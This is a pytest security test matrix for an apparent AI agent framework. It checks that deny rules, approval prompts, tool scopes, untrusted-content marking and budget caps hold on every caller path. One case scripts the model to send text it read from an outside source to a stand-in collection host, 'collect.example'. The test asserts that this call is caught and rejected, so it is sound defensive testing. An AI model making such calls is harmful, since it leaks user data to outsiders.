"""The caller × gate matrix: every path a call can take, against every gate.

Each caller path is driven for real, in process: the whole core (real SQLite, executor,
approval gate, task manager, scheduler, skills, subagents, code mode) with the scripted
model. Each gate is set up on its own, and the matrix asserts it holds on every path and
that the audit record names the path's whole origin chain. A profile is bound to the
chain's *first* link, so a path that replaced who asked (instead of extending the chain)
escapes it and fails here.

A new caller path is one more entry in `PATHS`; a new gate one more in `GATES`: until it is
wired, the matrix fails.
"""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from augure.background.manager import Report
from augure.common.caller import Caller
from augure.config.settings import load_config
from augure.core.app import Core
from augure.llm.spend import BudgetReached
from augure.store.spend import ModelCall
from augure.tools.base import Egress, RunContext, tool
from augure.tools.result import MARKED, ToolResult
from tests.cores import Cores
from tests.fakes.model import ScriptedModel, answer, call
from tests.security.owner import Owner, settled

TOKEN = "PROBE-OUTSIDE-TEXT"
GUEST = "2"  # an allowed user who is not the owner
probes_run: list[str] = []  # the origin chain of each probe call that ran
readings: list[bool] = []  # whether each probe call's caller had a reading
fetched: list[str] = []  # each URL the fetcher fetched
callers: list[Caller] = []  # the whole caller of each probe call that ran


@tool(
    "probe",
    egress=Egress.READ_ONLY,
    untrusted=True,
    background=True,
    target=lambda p: f"probe:{p.item}",
)
async def probe(ctx: RunContext, item: str) -> str:
    """Reads outside text (a stand-in for a web page)."""
    probes_run.append(ctx.origin)
    readings.append(ctx.caller.reading is not None)
    callers.append(ctx.caller)
    return f"{TOKEN} about {item}"


@tool("fetcher", egress=Egress.READ_ONLY, leaves=lambda p: [p.url], background=True)
async def fetcher(ctx: RunContext, url: str) -> str:
    """Fetches a URL (a stand-in for an http GET)."""
    fetched.append(url)
    return "fetched"


@tool("idle", background=True)
async def idle(ctx: RunContext) -> str:
    """Does nothing, in the background if asked."""
    return "idle done"


@dataclass
class World:
    core: Core
    model: ScriptedModel
    owner: Owner
    results: list[ToolResult] = field(default_factory=list)  # what a CLI caller printed

    def script(self, *steps: Any) -> None:
        self.model.script.extend(steps)

    async def settled(self) -> None:
        await settled(self.core)


Step = tuple[str, dict[str, Any]]  # one call the path makes: tool, arguments
Drive = Callable[[World, list[Step], bool], Awaitable[None]]


@dataclass(frozen=True)
class Path_:
    chain: str
    drive: Drive
    toml: Callable[[bool], str] = lambda scoped: ""
    chatting: bool = False  # an owner's chat: `Allow in this chat` applies
    model_reads: bool = True  # the probe's text reaches a model (not only the terminal)
    reads: bool = True  # a unit of work that reads (the CLI: the owner typed every call)
    work: str | None = "chat"  # whom its model calls are billed to; None: it makes none


def made(steps: list[Step]) -> list[Any]:
    return [call(name, **arguments) for name, arguments in steps]


async def chat(w: World, steps: list[Step], scoped: bool) -> None:
    w.script(*made(steps), answer("done"))
    await w.core.agent.handle("1", "go", tools={"datetime"} if scoped else None)


async def guest(w: World, steps: list[Step], scoped: bool) -> None:
    # Another allowed user's private chat (docs/security.md, "Guests"): the gates hold there
    # as in the owner's, whose approval the guest's calls wait for.
    w.script(*made(steps), answer("done"))
    await w.core.agent.handle(GUEST, "go", tools={"datetime"} if scoped else None)


def snippet(steps: list[Step]) -> str:
    return "\n".join(
        f"print(api.{name}({', '.join(f'{k}={v!r}' for k, v in arguments.items())}))"
        for name, arguments in steps
    )


async def code(w: World, steps: list[Step], scoped: bool) -> None:
    w.script(call("execute_code", code=snippet(steps)), answer("done"))
    await w.core.agent.handle("1", "go", tools={"execute_code"} if scoped else None)


def code_toml(scoped: bool) -> str:
    return "[code_mode]\nenabled = true\n"


async def batch(w: World, steps: list[Step], scoped: bool) -> None:
    for name, arguments in steps:
        w.script(call("batch", calls=[{"tool": name, "arguments": arguments}]))
    w.script(answer("done"))
    await w.core.agent.handle("1", "go", tools={"batch"} if scoped else None)


async def background(w: World, steps: list[Step], scoped: bool) -> None:
    for name, arguments in steps:
        w.script(call(name, **arguments, background=True), answer("started"), answer("told"))
        await w.core.agent.handle("1", "go", tools={"datetime"} if scoped else None)
        await w.settled()


async def report_turn(w: World, steps: list[Step], scoped: bool) -> None:
    # The released call is harmless; the turn that reports it makes the calls, with the
    # tools of the turn that released it.
    w.script(call("idle", background=True), answer("started"), *made(steps), answer("told"))
    await w.core.agent.handle("1", "go", tools={"idle"} if scoped else None)
    await w.settled()


def scout_toml(scoped: bool) -> str:
    tools = '["datetime"]' if scoped else '["probe", "fetcher", "datetime"]'
    return f'[agents.scout]\ninstructions = "Scouts."\ntools = {tools}\nmax_loops = 5\n'


async def subagent(w: World, steps: list[Step], scoped: bool) -> None:
    w.script(call("task", prompt="look", agent="scout"), *made(steps), answer("found"))
    w.script(answer("done"))
    await w.core.agent.handle("1", "go")


SKILL_MD = """---
name: scout
description: Looks something up.
version: 1.0.0
trigger: manual
tools: [{tools}]
---

Look it up.
"""


async def skill(w: World, steps: list[Step], scoped: bool) -> None:
    tools = "datetime" if scoped else "probe, fetcher, datetime"
    files = {"SKILL.md": SKILL_MD.format(tools=tools).encode()}
    w.core.skills.files.write("scout", files)
    await w.core.skills.files.put("scout", state="active", version="1.0.0", source="test")
    w.script(*made(steps), answer("done"))
    assert w.core.scheduler.run_skill is not None
    await w.core.scheduler.run_skill("scout", ("job",))


async def code_skill(w: World, steps: list[Step], scoped: bool) -> None:
    """A scheduled code skill: its snippet makes the calls, and no model reads the result."""
    tools = "datetime" if scoped else "probe, fetcher, datetime"
    await scout_skill(w, tools, snippet(steps))
    assert w.core.scheduler.run_skill is not None
    w.results.append(ToolResult.ok(await w.core.scheduler.run_skill("scout", ("job",))))


async def skill_subagent(w: World, steps: list[Step], scoped: bool) -> None:
    """A subagent that a scheduled code skill starts makes the calls."""
    await scout_skill(
        w, "task, probe, fetcher, datetime", 'print(api.task(prompt="look", agent="scout"))'
    )
    w.script(*made(steps), answer("found"))
    assert w.core.scheduler.run_skill is not None
    await w.core.scheduler.run_skill("scout", ("job",))


async def scout_skill(w: World, tools: str, code: str) -> None:
    files = {"SKILL.md": SKILL_MD.format(tools=tools).encode(), "skill.py": code.encode()}
    w.core.skills.files.write("scout", files)
    await w.core.skills.files.put("scout", state="active", version="1.0.0", source="test")


def disabled_toml(scoped: bool) -> str:
    """Paths with no allowed-tools of their own are scoped by the owner's `[tools]`."""
    return '[tools]\ndisabled = ["probe"]\n' if scoped else ""


async def job(w: World, steps: list[Step], scoped: bool) -> None:
    w.script(*made(steps), answer("done"))
    await w.core.scheduler.run_turn("job:j", "go", ("job",), ())


async def heartbeat(w: World, steps: list[Step], scoped: bool) -> None:
    w.script(*made(steps), answer("HEARTBEAT_OK"))
    await w.core.heartbeat.run_turn("check")


async def cli(w: World, steps: list[Step], scoped: bool) -> None:
    ctx = w.core.context.for_caller(Caller.of("cli"))
    for name, arguments in steps:
        w.results.append(await w.core.executor.run(name, arguments, ctx))


async def dashboard(w: World, steps: list[Step], scoped: bool) -> None:
    await w.core.scheduler.create(prompt="go", chat_id=None, cron="0 0 1 1 *", job_id="j")
    w.script(*made(steps), answer("done"))
    assert await w.core.scheduler.request_run("j", "dashboard")
    await asyncio.gather(*await w.core.scheduler.tick())


PATHS = {
    "chat": Path_("chat", chat, chatting=True),
    "guest": Path_("chat", guest, chatting=True),
    "code": Path_("chat>code", code, code_toml, chatting=True),
    "batch": Path_("chat>batch", batch, chatting=True),
    "background": Path_("chat>background", background, chatting=True),
    "subagent": Path_("chat>task:scout", subagent, scout_toml, chatting=True),
    "skill": Path_("job>skill:scout", skill, work="skill"),
    "code_skill": Path_("job>skill:scout>code", code_skill, model_reads=False, work="skill"),
    "skill_subagent": Path_(
        "job>skill:scout>code>task:scout", skill_subagent, scout_toml, work="skill"
    ),
    "job": Path_("job", job, disabled_toml, work="job"),
    "heartbeat": Path_("heartbeat", heartbeat, disabled_toml, work="heartbeat"),
    "report_turn": Path_("chat>background", report_turn, chatting=True),
    "cli": Path_("cli", cli, disabled_toml, model_reads=False, reads=False, work=None),
    "dashboard": Path_("dashboard>job", dashboard, disabled_toml, work="job"),
}
GATES = [
    "deny_rule",
    "requires_approval",
    "per_day_zero",
    "tool_scope",
    "untrusted",
    "in_chat",
    "after_untrusted",
    "budget",
    "reading",
    "unpriced",
]


def profile(first: str, limit: str) -> str:
    return f'[profiles.gate]\norigins = ["{first}"]\n[profiles.gate.tools.probe]\n{limit}\n'


@pytest.fixture
async def world(tmp_path: Path) -> AsyncIterator[Callable[[str], Awaitable[World]]]:
    opened = Cores()

    async def make(toml: str) -> World:
        (tmp_path / "augure.toml").write_text(f"[telegram]\nallowed_users = [1, {GUEST}]\n{toml}")
        owner, model = Owner(), ScriptedModel()
        core = await opened.open(
            load_config(home=tmp_path),
            extra_tools=[probe, fetcher, idle],
            model=model,
            approvers=[owner],
        )
        return World(core, model, owner)

    probes_run.clear()
    readings.clear()
    fetched.clear()
    callers.clear()
    yield make
    await opened.close()


async def records(core: Core) -> list[dict[str, Any]]:
    return list(reversed(await core.audit.listing(tool="probe")))


def unmarked(text: str) -> bool:
    """The probe's text stands somewhere outside an untrusted marker."""
    return TOKEN in MARKED.sub("", text)


def model_read(model: ScriptedModel) -> str:
    return "\n".join(str(m.get("content")) for r in model.requests for m in r.messages)


@pytest.mark.parametrize("gate", GATES)
@pytest.mark.parametrize("name", list(PATHS))
async def test_every_gate_holds_on_every_caller_path(
    world: Callable[[str], Awaitable[World]], name: str, gate: str
) -> None:
    path = PATHS[name]
    first = path.chain.split(">")[0]
    scoped = gate == "tool_scope"
    toml = path.toml(scoped)
    if gate == "requires_approval":
        toml += profile(first, "requires_approval = true")
    elif gate == "per_day_zero":
        toml += profile(first, "per_day = 0")
    elif gate == "in_chat":
        toml += profile(first, "requires_approval = true")
    elif gate == "budget":  # priced: the cap itself refuses, not the missing price
        toml += "[budget]\ndaily_usd = 0.01\n[llm]\ninput_price_per_million = 1.0\n"
    elif gate == "unpriced":  # a cap far from reached, and the model has no price
        toml += "[budget]\ndaily_usd = 100.0\n"
    w = await world(toml)
    if gate == "budget":  # the day's cap was reached before the path starts
        day, month = w.core.budget.today()
        await w.core.budget.ledger.record(ModelCall(day, month, "chat", "earlier", cost_usd=1.0))
    if gate == "deny_rule":
        await w.core.audit.add_rule("deny", "probe:x", "owner")
    if gate == "in_chat":
        w.owner.approve = True
    steps: list[Step] = [("probe", {"item": "x"})] * (2 if gate == "in_chat" else 1)
    if gate == "after_untrusted":  # a URL the model composed, after reading outside text
        steps.append(("fetcher", {"url": f"https://collect.example/?d={TOKEN}"}))

    try:
        await path.drive(w, steps, scoped)
    except BudgetReached:  # work no one waits for is refused to whoever runs it
        assert gate in ("budget", "unpriced") and path.work in ("job", "skill", "heartbeat")

    made = await records(w.core)
    assert all(r["origin"] == path.chain for r in made), [r["origin"] for r in made]
    if gate == "deny_rule":
        assert probes_run == [] and [r["approval_status"] for r in made] == ["rejected"]
    elif gate == "requires_approval":
        assert probes_run == [] and [r.origin for r in w.owner.asked] == [path.chain]
        assert [r["approval_status"] for r in made] == ["rejected"]
    elif gate == "per_day_zero":
        assert probes_run == [] and [r["status"] for r in made] == ["refused"]
        assert w.owner.asked == []
    elif gate == "tool_scope":
        assert probes_run == [] and made == [] and w.owner.asked == []
    elif gate == "untrusted":
        assert probes_run == [path.chain]
        seen = model_read(w.model) if path.model_reads else w.results[0].output
        assert TOKEN in seen and not unmarked(seen)
    elif gate == "in_chat":
        assert probes_run == [path.chain, path.chain]
        decided = [(r["approval_status"], r["decided_by"]) for r in made]
        if path.chatting:
            # Asked once, `Allow in this chat` pressed; the same target then runs unasked.
            assert [r.in_chat for r in w.owner.asked] == [True]
            # Both audited `session` (the press by the owner, the next by the grant), so
            # `augure invocations` tells them from a plain Approve.
            assert decided == [("session", "owner"), ("session", "session")]
        else:  # no owner in this chat: not offered, and nothing is allowed beyond the call
            assert [r.in_chat for r in w.owner.asked] == [False, False]
            assert decided == [("approved", "owner"), ("approved", "owner")]
    elif gate in ("budget", "unpriced"):
        report = await w.core.budget.report()
        skipped = {name for name, t in report.today.by_origin.items() if t.skipped}
        if path.work is None:  # the owner's own call at the terminal: no model is asked
            assert probes_run == [path.chain] and skipped == set()
        else:  # no model call, nothing run, and the refusal recorded for its kind of work
            assert w.model.requests == [] and probes_run == [] and made == []
            assert path.work in skipped
    elif gate == "reading":  # every caller that can reach a network tool reads its results
        assert probes_run == [path.chain] and readings == [path.reads]
    elif gate == "after_untrusted":
        assert [path.chain] == probes_run
        fetches = list(reversed(await w.core.audit.listing(tool="fetcher")))
        assert [r["origin"] for r in fetches] == [path.chain]
        if path.reads:  # asked, showing what was read and the URL; rejected: nothing left
            (asked,) = w.owner.asked
            assert "probe" in asked.arguments["after outside content"]
            assert asked.arguments["sends, decoded"] == f"https://collect.example/?d={TOKEN}"
            assert fetched == [] and fetches[0]["approval_status"] == "rejected"
        else:  # the owner typed the call at the terminal
            assert w.owner.asked == [] and len(fetched) == 1


def test_the_matrix_covers_every_caller_and_gate() -> None:
    assert len(PATHS) >= 14 and len(GATES) >= 10


async def test_a_background_report_works_for_the_whole_caller_that_released_it(
    world: Callable[[str], Awaitable[World]],
) -> None:
    """The report carries the released call's `Caller` itself: its chain, its tools, the
    chat's `Allow in this chat` grants and what the releasing turn had read; the report
    turn works for that caller, not one rebuilt from its parts."""
    w = await world("")
    reports: list[Report] = []
    announce = w.core.tasks.announce

    async def kept(report: Report) -> None:
        reports.append(report)
        await announce(report)

    w.core.tasks.announce = kept
    w.script(call("probe", item="a"), call("idle", background=True), answer("started"))
    w.script(call("probe", item="b"), answer("told"))
    await w.core.agent.handle("1", "go", tools={"probe", "idle"})
    await w.settled()
    (report,) = reports
    releasing, reporting = callers
    assert report.caller.chain == ("chat", "background") == reporting.chain
    assert report.caller.allowed_tools == frozenset({"probe", "idle"}) == reporting.allowed_tools
    assert report.caller.grants is not None
    assert report.caller.grants is releasing.grants is reporting.grants
    assert report.caller.reading is releasing.reading and releasing.reading is not None
    assert report.caller.reading.sources == {"probe"}
    assert reporting.reading is not None and reporting.reading.tainted
